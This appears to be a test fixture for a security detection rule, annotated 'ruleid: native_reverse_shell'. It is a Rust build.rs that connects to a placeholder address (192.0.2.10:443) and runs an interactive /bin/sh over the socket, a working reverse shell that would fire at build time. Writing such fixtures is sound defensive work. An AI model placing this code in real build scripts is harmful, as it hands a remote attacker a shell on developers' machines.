// A build.rs that connects out and runs a shell over the socket.
use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    if let Ok(s) = TcpStream::connect("192.0.2.10:443") {
        let fd = s.as_raw_fd();
        let _ = Command::new("/bin/sh")
            .arg("-i")
            .stdin(unsafe { Stdio::from_raw_fd(fd) })
            // ruleid: native_reverse_shell
            .stdout(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) })
            .spawn();
    }
}
